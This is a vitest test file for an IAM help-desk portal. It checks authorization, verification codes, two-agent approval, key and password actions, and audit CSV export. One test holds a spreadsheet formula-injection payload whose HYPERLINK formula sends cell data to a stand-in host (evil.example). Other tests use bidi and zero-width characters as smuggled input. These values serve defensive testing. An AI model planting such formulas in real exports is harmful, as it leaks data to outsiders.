import {
  ChangePasswordCommand,
  CreateAccessKeyCommand,
  CreateUserCommand,
  DeleteAccessKeyCommand,
  GetLoginProfileCommand,
  IAMClient,
  ListAccessKeysCommand,

} from '@aws-sdk/client-iam';
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPortalStack, type PortalStack } from '@/tests/support/portal-stack';

let stack: PortalStack;
let agentCookie: string;
const secrets: string[] = [];

beforeAll(async () => {
  stack = await startPortalStack();
  agentCookie = await stack.cookieFor('sato', { roles: ['user', 'helpdesk'] });
  // Someone outside Kagi's path (/staff/), and another help-desk agent under the protected path.
  await stack.admin.send(new CreateUserCommand({ UserName: 'contractor', Path: '/external/' }));
  await stack.admin.send(new CreateUserCommand({ UserName: 'suzuki', Path: '/staff/helpdesk/' }));
});
afterAll(async () => {
  await stack?.stop();
});

const asAgent = (path: string, init: RequestInit = {}) =>
  stack.call(null, path, { ...init, headers: { cookie: agentCookie, ...(init.headers as Record<string, string>) } });
const jsonInit = (method: string, body: unknown): RequestInit => ({
  method,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
});

async function issueCode(userName: string): Promise<string> {
  const res = await stack.call(userName, '/api/me/helpdesk-code', { method: 'POST' });
  expect(res.status).toBe(201);
  const { code } = await res.json();
  expect(code).toMatch(/^\d{6}$/);
  return code;
}

async function openCase(userName: string, ticket = 'INC-1001'): Promise<string> {
  const code = await issueCode(userName);
  const res = await asAgent(`/api/helpdesk/users/${userName}/cases`, jsonInit('POST', { ticket, code }));
  expect(res.status).toBe(201);
  return (await res.json()).id;
}

async function keysOf(userName: string) {
  const { AccessKeyMetadata = [] } = await stack.admin.send(new ListAccessKeysCommand({ UserName: userName }));
  return AccessKeyMetadata.map((k) => ({ id: k.AccessKeyId!, status: k.Status! }));
}

describe('authorization', () => {
  const routes: Array<[string, string, unknown?]> = [
    ['GET', '/api/helpdesk/users?q=ta'],
    ['GET', '/api/helpdesk/users/taro'],
    ['POST', '/api/helpdesk/users/taro/cases', { ticket: 'INC-1', otherMethod: 'called back on the desk phone' }],
    ['POST', '/api/helpdesk/users/taro/actions', { caseId: '00000000-0000-4000-8000-000000000000', action: 'deactivate-all-keys' }],
    ['POST', '/api/helpdesk/guided-sessions', { userName: 'taro', caseId: '00000000-0000-4000-8000-000000000000', steps: ['rotate-access-key'] }],
    ['GET', '/api/helpdesk/guided-sessions/00000000-0000-4000-8000-000000000000'],
    ['DELETE', '/api/helpdesk/guided-sessions/00000000-0000-4000-8000-000000000000'],
    ['GET', '/api/helpdesk/audit'],
  ];

  it.each(routes)('a person without the help-desk role gets 403 on %s %s', async (method, path, body) => {
    const res = await stack.call('taro', path, body === undefined ? { method } : jsonInit(method, body));
    expect(res.status).toBe(403);
    expect((await res.json()).code).toBe('forbidden');
  });

  it.each(routes)('signed out gets 401 on %s %s', async (method, path, body) => {
    const res = await stack.call(null, path, body === undefined ? { method } : jsonInit(method, body));
    expect(res.status).toBe(401);
  });

  it.each([
    ['the agent themself', 'sato', 'self'],
    ['a user under the protected path', 'suzuki', 'protected'],
    ['a user outside Kagi’s path', 'contractor', null],
  ])('an agent gets 403 on %s, for every help-desk route', async (_label, userName, reason) => {
    for (const [method, path, body] of [
      ['GET', `/api/helpdesk/users/${userName}`, undefined],
      ['POST', `/api/helpdesk/users/${userName}/cases`, { ticket: 'INC-2', otherMethod: 'video call, photo ID checked' }],
      ['POST', `/api/helpdesk/users/${userName}/actions`, { caseId: '00000000-0000-4000-8000-000000000000', action: 'deactivate-all-keys' }],
    ] as const) {
      const res = await asAgent(path, body === undefined ? { method } : jsonInit(method, body));
      expect(res.status, `${method} ${path}`).toBe(403);
      const problem = await res.json();
      expect(problem.code).toBe('forbidden');
      if (reason) expect(problem.reason).toBe(reason);
    }
  });

  it('search marks whom the agent may not help', async () => {
    const res = await asAgent('/api/helpdesk/users?q=');
    expect(res.status).toBe(200);
    const { users } = await res.json();
    const byName = Object.fromEntries(users.map((u: { userName: string; refusal: string | null }) => [u.userName, u.refusal]));
    expect(byName).toMatchObject({ taro: null, hanako: null, sato: 'self', suzuki: 'protected' });
    expect(byName).not.toHaveProperty('contractor');
  });
});

describe('verification', () => {
  it('accepts the person’s code once, and records the case in the audit', async () => {
    const code = await issueCode('hanako');
    let res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2001', code }));
    expect(res.status).toBe(201);
    expect(await res.json()).toMatchObject({ subject: 'hanako', ticket: 'INC-2001', verification: 'code' });
    res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2001', code }));
    expect(res.status).toBe(409);
    expect((await res.json()).code).toBe('verification-unavailable');
  });

  it('counts wrong codes and locks after five: then even the right code needs a new one', async () => {
    const code = await issueCode('hanako');
    const wrong = code === '000000' ? '111111' : '000000';
    for (let remaining = 4; remaining >= 0; remaining--) {
      const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2002', code: wrong }));
      expect(res.status).toBe(400);
      expect(await res.json()).toMatchObject({ code: 'verification-failed', remainingAttempts: remaining });
    }
    const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2002', code }));
    expect(res.status).toBe(409);
    expect((await res.json()).code).toBe('verification-unavailable');
  });

  it('a new code replaces the old one', async () => {
    const first = await issueCode('hanako');
    const second = await issueCode('hanako');
    if (first !== second) {
      const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2003', code: first }));
      expect(res.status).toBe(400);
    }
    const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2003', code: second }));
    expect(res.status).toBe(201);
  });

  it('an expired code is refused', async () => {
    const code = await issueCode('hanako');
    await stack.db.updateTable('helpdesk_codes').set({ expires_at: '2000-01-01T00:00:00.000Z' }).where('subject', '=', 'hanako').execute();
    const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-2004', code }));
    expect(res.status).toBe(409);
    expect((await res.json()).code).toBe('verification-unavailable');
  });

  it('another verification method is recorded in words', async () => {
    const res = await asAgent(
      '/api/helpdesk/users/hanako/cases',
      jsonInit('POST', { ticket: 'INC-2005', otherMethod: 'Video call; checked staff ID card' }),
    );
    expect(res.status).toBe(201);
    expect((await res.json()).verification).toBe('other: Video call; checked staff ID card');
  });

  it('refuses a ticket or an "another way" description with a bidi control or a zero-width character (400 invalid-input), opening nothing', async () => {
    const before = await stack.db.selectFrom('helpdesk_cases').select('id').execute();
    for (const body of [
      { ticket: 'INC-2006', otherMethod: 'Called back on the \u202edesk phone' },
      { ticket: 'INC-2006', otherMethod: 'Video\u200b call, checked staff ID' },
      { ticket: 'INC-2006', otherMethod: '\u2066Video call, checked staff ID\u2069' },
      { ticket: 'INC-\u200b2006', otherMethod: 'Video call, checked staff ID' },
      { ticket: 'INC-2006\u200e', code: '123456' },
    ]) {
      const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', body));
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect((await res.json()).code).toBe('invalid-input');
    }
    expect(await stack.db.selectFrom('helpdesk_cases').select('id').execute()).toEqual(before);
  });

  it('refuses a missing ticket and malformed codes', async () => {
    for (const body of [{ code: '123456' }, { ticket: 'INC-1', code: '12345' }, { ticket: 'INC-1', code: 'abcdef' }, { ticket: 'x', code: '123456' }]) {
      const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', body));
      expect(res.status).toBe(400);
      expect((await res.json()).code).toBe('invalid-input');
    }
  });
});

describe('four eyes: a case opened another way', () => {
  async function openedAnotherWay(ticket: string): Promise<{ userName: string; caseId: string }> {
    const userName = `fe${Math.random().toString(36).slice(2, 8)}`;
    await stack.admin.send(new CreateUserCommand({ UserName: userName, Path: '/staff/' }));
    await stack.admin.send(new CreateAccessKeyCommand({ UserName: userName }));
    const res = await asAgent(`/api/helpdesk/users/${userName}/cases`, jsonInit('POST', { ticket, otherMethod: 'video call, photo ID checked' }));
    expect(res.status).toBe(201);
    const opened = await res.json();
    expect(opened).toMatchObject({ approval: 'waiting', approvedByName: null, agentName: 'sato (test)' });
    return { userName, caseId: opened.id };
  }
  const approverCookie = () => stack.cookieFor('taro', { roles: ['user', 'helpdesk'] });
  const approve = async (userName: string, caseId: string, cookie: string) =>
    stack.call(null, `/api/helpdesk/users/${userName}/cases/${caseId}/approval`, { method: 'POST', headers: { cookie } });

  it('unlocks no action and no guided reset until a second agent approves; IAM is untouched', async () => {
    const { userName, caseId } = await openedAnotherWay('INC-4E-1');
    const before = await keysOf(userName);
    for (const [path, body] of [
      [`/api/helpdesk/users/${userName}/actions`, { caseId, action: 'deactivate-all-keys' }],
      [`/api/helpdesk/users/${userName}/actions`, { caseId, action: 'set-temporary-password' }],
      ['/api/helpdesk/guided-sessions', { userName, caseId, steps: ['rotate-access-key'] }],
    ] as const) {
      const res = await asAgent(path, jsonInit('POST', body));
      expect(res.status, path).toBe(409);
      expect((await res.json()).code).toBe('case-awaiting-approval');
    }
    expect(await keysOf(userName)).toEqual(before);
    // The agent's page polls the case; it says it is waiting.
    expect((await (await asAgent(`/api/helpdesk/users/${userName}/cases/${caseId}`)).json()).approval).toBe('waiting');
  });

  it('the agent who opened it cannot approve it; another agent sees it waiting, approves it once, and both names are in the audit', async () => {
    const { userName, caseId } = await openedAnotherWay('INC-4E-2');
    const own = await approve(userName, caseId, agentCookie);
    expect(own.status).toBe(409);
    expect((await own.json()).code).toBe('approval-not-allowed');

    const other = await approverCookie();
    const waiting = await (await stack.call(null, '/api/helpdesk/approvals', { headers: { cookie: other } })).json();
    expect(waiting.cases.map((c: { id: string }) => c.id)).toContain(caseId);
    expect(waiting.cases.find((c: { id: string }) => c.id === caseId)).toMatchObject({ subject: userName, ticket: 'INC-4E-2', agentName: 'sato (test)' });
    // Nobody is asked to approve their own case.
    expect((await (await asAgent('/api/helpdesk/approvals')).json()).cases.map((c: { id: string }) => c.id)).not.toContain(caseId);

    const approved = await approve(userName, caseId, other);
    expect(approved.status).toBe(200);
    expect(await approved.json()).toMatchObject({ approval: 'approved', approvedByName: 'taro (test)' });
    expect((await approve(userName, caseId, other)).status).toBe(409);

    const action = await asAgent(`/api/helpdesk/users/${userName}/actions`, jsonInit('POST', { caseId, action: 'deactivate-all-keys' }));
    expect(action.status).toBe(200);
    expect((await keysOf(userName)).map((k) => k.status)).toEqual(['Inactive']);

    const audit = await (await asAgent(`/api/helpdesk/audit?ticket=INC-4E-2`)).json();
    const lines = audit.entries.map((e: { action: string; actor: string; outcome: string }) => `${e.action}:${e.actor}:${e.outcome}`).sort();
    expect(lines).toEqual(['access-key.deactivate:sato:ok', 'helpdesk.case.approve:taro:ok', 'helpdesk.verify:sato:ok', 'sessions.end-all:sato:ok']);
  });

  it('a case verified with the person’s code needs no approval, and cannot be approved', async () => {
    const code = await issueCode('hanako');
    const res = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-4E-3', code }));
    const opened = await res.json();
    expect(opened.approval).toBe('not-needed');
    const refused = await approve('hanako', opened.id, await approverCookie());
    expect(refused.status).toBe(409);
    expect((await refused.json()).code).toBe('approval-not-allowed');
  });
});

describe('ending a case', () => {
  it('closes it at once, under its ticket in the audit; then it unlocks nothing, and only its agent may end it', async () => {
    const caseId = await openCase('hanako', 'INC-2101');
    const path = `/api/helpdesk/users/hanako/cases/${caseId}`;
    const otherAgent = await stack.cookieFor('kenji', { roles: ['user', 'helpdesk'] });
    const byOther = await stack.call(null, path, { method: 'DELETE', headers: { cookie: otherAgent } });
    expect(byOther.status).toBe(409);
    // Under another person's name it is not the same case.
    expect((await asAgent(`/api/helpdesk/users/taro/cases/${caseId}`, { method: 'DELETE' })).status).toBe(409);

    const ended = await asAgent(path, { method: 'DELETE' });
    expect(ended.status).toBe(204);
    const action = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'deactivate-all-keys' }));
    expect((await action.json()).code).toBe('case-expired');
    const again = await asAgent(path, { method: 'DELETE' });
    expect((await again.json()).code).toBe('case-expired');

    const { entries } = await (await asAgent('/api/helpdesk/audit?ticket=INC-2101')).json();
    expect(entries.map((e: { action: string; outcome: string }) => `${e.action}:${e.outcome}`).sort()).toEqual(['helpdesk.case.end:ok', 'helpdesk.verify:ok']);
  });
});

describe('actions', () => {
  it('need an open case of this agent for this person', async () => {
    const caseForHanako = await openCase('hanako');
    const res = await asAgent('/api/helpdesk/users/taro/actions', jsonInit('POST', { caseId: caseForHanako, action: 'deactivate-all-keys' }));
    expect(res.status).toBe(409);
    expect((await res.json()).code).toBe('case-expired');
  });

  it('deactivate all keys: every active key stops, each audited under the ticket', async () => {
    for (let i = 0; i < 2; i++) await stack.admin.send(new CreateAccessKeyCommand({ UserName: 'hanako' }));
    const caseId = await openCase('hanako', 'INC-3001');
    const res = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'deactivate-all-keys' }));
    expect(res.status).toBe(200);
    expect((await res.json()).deactivatedKeyIds).toHaveLength(2);
    expect((await keysOf('hanako')).every((k) => k.status === 'Inactive')).toBe(true);
    const audit = await (await asAgent('/api/helpdesk/audit?ticket=INC-3001&action=access-key.deactivate')).json();
    expect(audit.entries).toHaveLength(2);
    expect(audit.entries[0]).toMatchObject({ actor: 'sato', subject: 'hanako', outcome: 'ok', verification: 'code' });
  });

  it('delete a key; another person’s key is not found', async () => {
    const { AccessKey } = await stack.admin.send(new CreateAccessKeyCommand({ UserName: 'taro' }));
    const caseId = await openCase('hanako', 'INC-3002');
    let res = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'delete-key', accessKeyId: AccessKey!.AccessKeyId }));
    expect(res.status).toBe(404);
    expect((await keysOf('taro')).map((k) => k.id)).toContain(AccessKey!.AccessKeyId);
    const hanakoKey = (await keysOf('hanako'))[0]!.id;
    res = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'delete-key', accessKeyId: hanakoKey }));
    expect(res.status).toBe(200);
    expect((await keysOf('hanako')).map((k) => k.id)).not.toContain(hanakoKey);
  });

  it('enable console sign-in with a temporary password, then set another, then disable', async () => {
    const caseId = await openCase('hanako', 'INC-3003');
    let res = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'enable-console-password' }));
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toMatch(/^no-store\b/);
    const { temporaryPassword } = await res.json();
    secrets.push(temporaryPassword);
    expect(temporaryPassword.length).toBeGreaterThanOrEqual(16);
    const { LoginProfile } = await stack.admin.send(new GetLoginProfileCommand({ UserName: 'hanako' }));
    expect(LoginProfile?.PasswordResetRequired).toBe(true);

    res = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'set-temporary-password' }));
    const second = (await res.json()).temporaryPassword;
    secrets.push(second);
    // The stored password is the second one: IAM accepts it as the old password.
    const { AccessKey } = await stack.admin.send(new CreateAccessKeyCommand({ UserName: 'hanako' }));
    const endpoint = await stack.admin.config.endpoint!();
    const asHanako = new IAMClient({
      endpoint: `${endpoint.protocol}//${endpoint.hostname}:${endpoint.port}`,
      region: 'us-east-1',
      maxAttempts: 1,
      credentials: { accessKeyId: AccessKey!.AccessKeyId!, secretAccessKey: AccessKey!.SecretAccessKey! },
    });
    await asHanako.send(new ChangePasswordCommand({ OldPassword: second, NewPassword: 'Hanako-Own-Password-2026!' }));
    asHanako.destroy();
    await stack.admin.send(new DeleteAccessKeyCommand({ UserName: 'hanako', AccessKeyId: AccessKey!.AccessKeyId! }));

    res = await asAgent('/api/helpdesk/users/hanako/actions', jsonInit('POST', { caseId, action: 'disable-console-password' }));
    expect(res.status).toBe(200);
    await expect(stack.admin.send(new GetLoginProfileCommand({ UserName: 'hanako' }))).rejects.toThrow();
  });
});

describe('guided sessions', () => {
  it('belong to one person, show live progress to the agent, and can be cancelled', async () => {
    for (const key of await keysOf('taro')) await stack.admin.send(new DeleteAccessKeyCommand({ UserName: 'taro', AccessKeyId: key.id }));
    const { AccessKey: old } = await stack.admin.send(new CreateAccessKeyCommand({ UserName: 'taro' }));
    const caseId = await openCase('taro', 'INC-4001');
    const res = await asAgent('/api/helpdesk/guided-sessions', jsonInit('POST', { userName: 'taro', caseId, steps: ['rotate-access-key'] }));
    expect(res.status).toBe(201);
    const session = await res.json();
    expect(session).toMatchObject({ subject: 'taro', status: 'open', steps: [{ step: 'rotate-access-key', state: 'not-started' }] });

    // Only taro sees it; hanako does not.
    expect((await (await stack.call('taro', '/api/me/guided-session')).json()).session?.id).toBe(session.id);
    expect((await (await stack.call('hanako', '/api/me/guided-session')).json()).session).toBeNull();

    // taro rotates in his own session; the agent sees each step.
    const created = await (await stack.call('taro', '/api/me/access-keys', jsonInit('POST', {}))).json();
    secrets.push(created.secretAccessKey);
    expect((await (await asAgent(`/api/helpdesk/guided-sessions/${session.id}`)).json()).steps[0].state).toBe('in-progress');
    await stack.call('taro', `/api/me/access-keys/${old!.AccessKeyId}`, jsonInit('PATCH', { status: 'Inactive' }));
    await stack.call('taro', `/api/me/access-keys/${old!.AccessKeyId}`, { method: 'DELETE' });
    const done = await (await asAgent(`/api/helpdesk/guided-sessions/${session.id}`)).json();
    expect(done).toMatchObject({ status: 'completed', steps: [{ step: 'rotate-access-key', state: 'done' }] });

    // taro's own changes are filed under the ticket, visible in his activity.
    const activity = await (await stack.call('taro', '/api/me/activity')).json();
    expect(activity.entries.filter((e: { ticket: string | null }) => e.ticket === 'INC-4001').length).toBeGreaterThanOrEqual(3);

    // Once completed, taro's later changes are his own again, not the ticket's.
    const later = await (await stack.call('taro', '/api/me/access-keys', jsonInit('POST', {}))).json();
    secrets.push(later.secretAccessKey);
    const latest = (await (await stack.call('taro', '/api/me/activity')).json()).entries[0];
    expect(latest).toMatchObject({ action: 'access-key.create', ticket: null });
    expect((await (await stack.call('taro', '/api/me/guided-session')).json()).session).toBeNull();
  });

  it('a cancelled session does nothing for the person, and another agent cannot see it', async () => {
    const caseId = await openCase('hanako', 'INC-4002');
    const session = await (await asAgent('/api/helpdesk/guided-sessions', jsonInit('POST', { userName: 'hanako', caseId, steps: ['remove-unused-key'] }))).json();
    const otherAgent = await stack.cookieFor('kenji', { roles: ['user', 'helpdesk'] });
    const peek = await stack.call(null, `/api/helpdesk/guided-sessions/${session.id}`, { headers: { cookie: otherAgent } });
    expect(peek.status).toBe(404);
    const res = await asAgent(`/api/helpdesk/guided-sessions/${session.id}`, { method: 'DELETE' });
    expect((await res.json()).status).toBe('cancelled');
    expect((await (await stack.call('hanako', '/api/me/guided-session')).json()).session).toBeNull();
  });

  it('an expired session does nothing', async () => {
    const caseId = await openCase('hanako', 'INC-4003');
    const session = await (await asAgent('/api/helpdesk/guided-sessions', jsonInit('POST', { userName: 'hanako', caseId, steps: ['set-console-password'] }))).json();
    await stack.db.updateTable('guided_sessions').set({ expires_at: '2000-01-01T00:00:00.000Z' }).where('id', '=', session.id).execute();
    expect((await (await stack.call('hanako', '/api/me/guided-session')).json()).session).toBeNull();
    expect((await (await asAgent(`/api/helpdesk/guided-sessions/${session.id}`)).json()).status).toBe('expired');
  });
});

describe('audit view', () => {
  it('filters and exports CSV', async () => {
    const res = await asAgent('/api/helpdesk/audit?agent=sato&format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    // text() drops the byte-order mark (checked on the bytes below).
    const csv = await res.text();
    expect(csv.split('\r\n')[0]).toBe(
      '"Entry","When (UTC)","Done by","Done by (AWS user name)","Person (AWS user name)","Action","Access key","Key name","MFA device","Ticket","Verified by","Result","Why it failed","Request ID"',
    );
    expect(csv).toContain('"INC-3001"');
    // Every cell of every line is in quotes: nothing outside them but the separators.
    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
  });

  it('quotes every cell, so a description like a;=HYPERLINK(…) stays one cell where the list separator is ";"', async () => {
    const otherMethod = 'a;=HYPERLINK("http://evil.example/?"&A1;"click")';
    const opened = await asAgent('/api/helpdesk/users/hanako/cases', jsonInit('POST', { ticket: 'INC-CSV-1', otherMethod }));
    expect(opened.status).toBe(201);
    const csv = await (await asAgent('/api/helpdesk/audit?ticket=INC-CSV-1&format=csv')).text();
    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
    // The description sits inside the one quoted cell of the "verified by" column.
    const line = csv.split('\r\n').find((l) => l.includes(otherMethod.replace(/"/g, '""')));
    expect(line).toBeDefined();
    const cells = line!.match(/"(?:[^"]|"")*"/g)!.map((c) => c.slice(1, -1).replace(/""/g, '"'));
    expect(cells).toHaveLength(14);
    expect(cells[10]).toContain(otherMethod);
    expect(cells[9]).toBe('INC-CSV-1');
  });

  it('is in the agent’s language and time zone, starts with a byte-order mark, and says why an attempt failed', async () => {
    const ja = JSON.parse(fs.readFileSync('messages/ja.json', 'utf8'));
    const { AccessKey } = await stack.admin.send(new CreateAccessKeyCommand({ UserName: 'hanako' }));
    stack.iam.injectFault({ action: 'UpdateAccessKey', count: 3, fault: 'ServiceFailure' });
    const refused = await stack.call('hanako', `/api/me/access-keys/${AccessKey!.AccessKeyId}`, jsonInit('PATCH', { status: 'Inactive' }));
    expect(refused.status).toBeGreaterThanOrEqual(500);
    const filter = `person=hanako&action=access-key.deactivate`;
    const [latest] = (await (await asAgent(`/api/helpdesk/audit?${filter}`)).json()).entries;
    expect(latest).toMatchObject({ accessKeyId: AccessKey!.AccessKeyId });
    expect(latest.outcome).not.toBe('ok');

    const res = await asAgent(`/api/helpdesk/audit?${filter}&format=csv`, { headers: { cookie: `${agentCookie}; kagi-locale=ja; kagi-tz=Asia/Tokyo` } });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, row] = bytes
      .toString('utf8')
      .slice(1)
      .split('\r\n')
      .map((line) => (line ? line.split(',') : []))
      .map((cells) =>
        cells.map((cell) => {
          expect(cell).toMatch(/^"(?:[^"]|"")*"$/);
          return cell.slice(1, -1).replace(/""/g, '"');
        }),
      );
    expect(header).toEqual(['記録番号', '日時（Asia/Tokyo）', '操作者', '操作者（AWS ユーザー名）', '利用者（AWS ユーザー名）', '操作', 'アクセスキー', 'キーの名前', 'MFA デバイス', 'チケット', '確認方法', '結果', '失敗の理由', 'リクエスト ID']);
    // Tokyo is UTC+9 all year.
    const tokyo = new Date(Date.parse(latest.at) + 9 * 3600_000).toISOString().slice(0, 19).replace('T', ' ');
    expect(row).toEqual([
      String(latest.id),
      tokyo,
      latest.actorName,
      'hanako',
      'hanako',
      ja.helpdesk.actionNames['access-key'].deactivate,
      AccessKey!.AccessKeyId,
      '',
      '',
      '',
      '',
      ja.helpdesk.audit.csv.failed,
      ja.errors[latest.outcome],
      latest.requestId,
    ]);
    await stack.admin.send(new DeleteAccessKeyCommand({ UserName: 'hanako', AccessKeyId: AccessKey!.AccessKeyId! }));
  });

  it('never contains a temporary password or a secret, nor does the portal’s output', async () => {
    expect(secrets.length).toBeGreaterThanOrEqual(3);
    const csv = await (await asAgent('/api/helpdesk/audit?format=csv')).text();
    const log = fs.readFileSync(stack.logFile, 'utf8');
    const stored = await stack.storedText();
    expect(stored).toContain('INC-3001');
    for (const secret of secrets) {
      expect(csv).not.toContain(secret);
      expect(log).not.toContain(secret);
      expect(stored).not.toContain(secret);
    }
  });
});

